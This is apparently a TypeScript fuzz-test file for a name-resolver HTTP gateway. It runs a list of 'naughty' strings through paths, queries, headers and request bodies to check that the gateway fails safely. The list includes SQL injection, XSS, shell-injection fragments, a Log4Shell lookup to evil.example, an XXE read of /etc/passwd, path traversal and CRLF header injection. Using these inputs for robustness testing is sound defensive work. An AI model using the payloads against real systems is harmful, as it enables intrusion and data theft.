import { createResolver } from '@peername/resolver-core';
import { createFakeNameService, createManualClock } from '@peername/resolver-core/testing';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { createGateway } from './create-gateway.ts';
import type { GatewayOptions } from './gateway-options.ts';
import type { Visited } from './visit.ts';

const characters = (from: number, to: number) =>
  Array.from({ length: to - from + 1 }, (_, i) => String.fromCodePoint(from + i));
const around = (texts: readonly string[]) => texts.flatMap((text) => [text, `a${text}b.fake`]);

/** Texts that have broken parsers, caches, logs and terminals. */
const naughty: Readonly<Record<string, readonly string[]>> = {
  controls: around([...characters(0, 0x1f), ...characters(0x7f, 0x9f)]),
  'ASCII signs': around(characters(0x20, 0x2f).concat(characters(0x3a, 0x40), characters(0x5b, 0x60))),
  'line ends': around([
    '\r\n',
    '\r\nset-cookie: a=b',
    '\r\n\r\n<html>',
    '\u2028',
    '\u2029',
    '\u0085',
    '\v',
    '\f',
  ]),
  percents: around([
    '%',
    '%%',
    '%0',
    '%00',
    '%0a',
    '%0d%0a',
    '%250d%250a',
    '%25',
    '%2525',
    '%2e',
    '%252e',
    '%2e%2e%2f',
    '%2f',
    '%5c',
    '%c0%ae',
    '%c0%80',
    '%e0%80%af',
    '%f8%88%80%80%af',
    '%ff',
    '%fe%ff',
    '%ed%a0%80',
    '%u0041',
    '%uff0e',
    '%ZZ',
    '%-1',
    '&#37;',
    '%E2%80%AE',
  ]),
  'ways out of a folder': around([
    '..',
    '../',
    '../../../../etc/passwd',
    '..\\',
    '....//',
    '..;/',
    '/..;/',
    './',
    '//',
    '///',
    '/etc/passwd',
    'C:\\con',
    'file:///etc/passwd',
    '~root',
    '.git/config',
    '\\\\host\\share',
  ]),
  'invisible and turning': around([
    '\u00ad',
    '\u034f',
    '\u061c',
    '\u115f',
    '\u180e',
    '\u200b',
    '\u200c',
    '\u200d',
    '\u200e',
    '\u200f',
    '\u202a',
    '\u202d',
    '\u202e',
    '\u2060',
    '\u2066',
    '\u2067',
    '\u2069',
    '\u3164',
    '\ufe0f',
    '\ufeff',
    '\ufff9',
    '\uffff',
    '\u{e0001}',
    '\u{e0061}',
    '\u{f0000}',
    '\u{10ffff}',
  ]),
  'halves of characters': around(['\ud800', '\udc00', '\udfff\ud800', 'a\ud83d', '\ude00a']),
  lookalikes: around([
    'а',
    'ｅ',
    'ⓐ',
    '℀',
    '㎏',
    'ﬀ',
    'ß',
    'İ',
    'ı',
    'ſ',
    'K',
    '。',
    '．',
    '｡',
    '∕',
    '⁄',
    '？',
    '＃',
    '％',
  ]),
  heaps: around([
    'é'.normalize('NFD'),
    `a${'\u0301'.repeat(300)}`,
    '🏳️‍🌈',
    '👩‍👩‍👧‍👦',
    '🇩🇪',
    '0️⃣',
    '﷽'.repeat(30),
    '᠎᠎᠎',
  ]),
  'names of the language': around([
    '__proto__',
    'constructor',
    'prototype',
    'toString',
    'hasOwnProperty',
    'undefined',
    'null',
    'true',
    'NaN',
    'Infinity',
    '[object Object]',
    '-0',
    '1e309',
    '0x7f',
    '9007199254740993',
    '1/0',
  ]),
  code: around([
    "' or 1=1--",
    '"; drop table names;--',
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    'javascript:alert(1)',
    '{{7*7}}',
    '\u0024{7*7}',
    '#{7*7}',
    '<%= 7*7 %>',
    '`id`',
    '$(id)',
    '; id',
    '| id',
    '&& id',
    '$(sleep 9)',
    '\u0024{jndi:ldap://evil.example/a}',
    '%s%s%s%n',
    '%x%x%x',
    '(){:;}; echo',
    '@import',
    ']]>',
    '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>',
    '*)(uid=*',
    '\u001b[2J',
    '\u001b]0;a\u0007',
    '\\u0000',
    '\\x00',
    '\\',
    '\\n',
    '{"$gt":""}',
    '[]',
    '{}',
    '""',
    "''",
    '=1+1',
    '@SUM(1)',
    '-1',
    '+1',
  ]),
  'words of HTTP': around([
    'HTTP/1.1 200 OK',
    'Transfer-Encoding: chunked',
    'GET / HTTP/1.1',
    'http://evil.example/',
    '//evil.example/',
    'evil.example:80',
    '127.0.0.1',
    '[::1]',
    '169.254.169.254',
    'user:pass@host',
    '?x=1',
    '&x=1',
    '#x',
    ';x=1',
    'data:text/html,x',
    '*',
    '*/*',
    'gzip, deflate',
  ]),
  'long ones': [
    'a'.repeat(255),
    'a'.repeat(1_999),
    'a.'.repeat(900),
    '%41'.repeat(600),
    'é'.repeat(300),
    'a'.repeat(100_000),
  ],
  'no text': ['', ' ', '\t', '.', '..', '...', '.fake', 'a.', 'a..fake', '-', '_', '/', '\\'],
};
const all = Object.values(naughty).flat();

function rig(options: GatewayOptions = {}) {
  const clock = createManualClock();
  const service = createFakeNameService({ clock });
  const seen: Visited[] = [];
  const gateway = createGateway(createResolver({ services: [service], clock }), {
    clock,
    observe: (visited) => seen.push(visited),
    ...options,
  });
  /** Every request is answered with what a client can be told, and observed once. */
  const check = async (request: Request) => {
    seen.length = 0;
    const response = await gateway.fetch(request);
    const body = await response.text();
    expect([request.url, response.status]).toEqual([
      request.url,
      expect.toSatisfy((s: number) => s < 500 || s === 501),
    ]);
    expect(seen).toHaveLength(1);
    expect(seen[0]).toMatchObject({ status: response.status, method: request.method });
    expect(seen[0]?.route).toMatch(/^(none|\/[a-z0-9:/.-]*)$/);
    for (const [name, value] of response.headers)
      expect([name, /^[ -~]*$/.test(value)]).toEqual([name, true]);
    expect(response.headers.has('cache-control')).toBe(true);
    expect(response.headers.has('set-cookie')).toBe(false);
    if (body !== '' && response.headers.get('content-type')?.includes('json')) JSON.parse(body);
    return response;
  };
  const request = (target: string, init: RequestInit = {}) => {
    try {
      return new Request(`http://gateway.test${target}`, init);
    } catch {
      // What no client can send.
      return undefined;
    }
  };
  const send = async (target: string, init: RequestInit = {}) => {
    const made = request(target, init);
    return made && (await check(made));
  };
  return { send };
}

/** As it is, and as a client would write it. */
const written = (text: string): string[] => {
  try {
    return [text, encodeURIComponent(text)];
  } catch {
    return [text];
  }
};

describe('a naughty text', () => {
  it('is one of at least five hundred', () => {
    expect(all.length).toBeGreaterThan(500);
  });

  it.each(Object.keys(naughty))('in a path is answered and observed once: %s', async (group) => {
    const { send } = rig();
    for (const text of (naughty[group] as readonly string[]).flatMap(written)) {
      await send(`/v1/names/${text}`);
      await send(`/v1/names/${text}/records`);
      await send(`/v1/accounts/${text}/names`);
      await send(`/${text}`);
      await send(`/v1/names/a.fake/${text}`);
    }
  });

  it.each(Object.keys(naughty))('in a query is answered and observed once: %s', async (group) => {
    const { send } = rig();
    for (const text of (naughty[group] as readonly string[]).flatMap(written)) {
      await send(`/v1/names/a.fake?${text}`);
      await send(`/v1/names/a.fake?${text}=1`);
      await send(`/v1/names/a.fake?kinds=${text}`);
      await send(`/v1/names/a.fake?minBlock=${text}`);
      await send(`/v1/names/a.fake/records?keys=${text}`);
    }
  });

  it('in the value of a header is answered and observed once', async () => {
    const { send } = rig();
    const names = [
      'accept',
      'if-none-match',
      'content-type',
      'cookie',
      'x-forwarded-for',
      'host',
      'last-event-id',
    ];
    for (const text of all.filter((one) => one.length < 8_000)) {
      for (const name of names) {
        let headers: Headers;
        try {
          headers = new Headers({ [name]: text });
        } catch {
          continue;
        }
        await send('/v1/names/a.fake', { headers });
        await send('/v1/names:batch', { method: 'POST', body: '{"names":["a.fake"]}', headers });
      }
    }
  });

  it('in a batch is answered as what it is, with the text as it was asked', async () => {
    const { send } = rig();
    const headers = { 'content-type': 'application/json' };
    const short = all.filter((text) => text.length < 300);
    for (let i = 0; i < short.length; i += 50) {
      const names = short.slice(i, i + 50);
      const response = await send('/v1/names:batch', {
        method: 'POST',
        headers,
        body: JSON.stringify({ names }),
      });
      expect(response?.status).toBe(200);
    }
    for (const text of all) {
      await send('/v1/names:batch', { method: 'POST', headers, body: text });
      await send('/v1/names:batch', {
        method: 'POST',
        headers,
        body: JSON.stringify({ names: ['a.fake'], [text]: 1 }),
      });
    }
  });

  it('as a method is answered and observed once', async () => {
    const { send } = rig();
    for (const text of all.filter((one) => one.length < 300))
      await send('/v1/names/a.fake', { method: text });
  });

  it('of any kind whatever is answered and observed once', async () => {
    const { send } = rig();
    const texts = fc.oneof(fc.string({ unit: 'binary' }), fc.webQueryParameters(), fc.webPath());
    await fc.assert(
      fc.asyncProperty(
        texts,
        fc.constantFrom('/v1/names/', '/v1/names/a.fake?', '/'),
        async (text, prefix) => {
          await send(`${prefix}${text}`);
        },
      ),
      { numRuns: 3_000 },
    );
  });
});
